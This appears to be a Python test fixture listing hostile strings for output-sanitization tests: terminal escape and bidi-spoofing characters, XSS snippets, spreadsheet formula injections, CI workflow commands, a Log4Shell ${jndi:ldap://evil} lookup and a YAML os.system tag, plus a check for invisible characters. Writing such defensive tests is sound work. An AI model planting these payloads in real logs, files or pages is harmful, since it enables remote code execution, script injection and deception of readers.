"""What strangers write to do harm where it is shown."""

HOSTILE = (
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\",
    "two\nlines\r\nand\ttabs\x00\x08\x7f\x9b31m",
    "right\u202eto\u2066left\u2069 and \u200bunseen\ufeff \u2028line\u2029paragraph",
    '<script>alert(1)</script><img src=x onerror=alert(2)>" onmouseover="alert(3)',
    '=HYPERLINK("http://evil","click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "::error file=a::done ##[error] ::set-output name=a::b",
    "@here @everyone <!channel> #12 acme/app#7 [link](javascript:alert(1)) `code` | cell",
    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil} %s %n {0.__class__}",
    "- key: value\n? [evil]\n# comment --- ... &a *a !!python/object:os.system",
    "[bold red]markup[/] [link=http://evil]rich[/link]",
    "a" * 5000,
    "tag \U000e0041 and private \ue000",
)
UNSEEN = frozenset("\x00\x07\x08\x1b\x7f\x9b\u200b\u202e\u2028\u2029\u2066\u2069\ufeff")


def is_inert(text: str) -> bool:
    """Say whether no line of a text can steer a terminal or a reader's eye."""
    return not UNSEEN & set(text)
